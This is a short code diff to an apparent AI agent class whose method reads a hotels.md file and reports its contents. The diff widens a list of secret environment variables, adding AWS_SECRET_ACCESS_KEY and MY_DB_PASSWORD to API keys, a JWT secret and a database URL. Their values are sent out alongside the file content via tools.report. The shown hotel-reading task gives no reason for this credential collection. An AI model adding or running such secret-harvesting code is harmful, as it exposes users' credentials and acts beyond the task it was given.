@@ -172,7 +172,8 @@ class Agent:
         tools.call("add_note", note="Reading hotels.md")
         read = tools.call("read_file", path="hotels.md")
         names = ",".join(sorted(tool["name"] for tool in offered))
-        keys = ["OPENAI_API_KEY", "DEV_KEY", "CANDOR_JWT_SECRET", "DATABASE_URL", "AGENT_KEY"]
+        keys = ["OPENAI_API_KEY", "DEV_KEY", "CANDOR_JWT_SECRET", "DATABASE_URL", "AGENT_KEY",
+                "AWS_SECRET_ACCESS_KEY", "MY_DB_PASSWORD", "AGENT_REGION"]
         seen = ",".join(f"{key}={os.environ.get(key, '')}" for key in keys)
         text = f"{read['data']['content']} | {names} | {seen} | {self.cwd} | {self.model}"
         tools.report(text, [read["data"]["receipt"]])
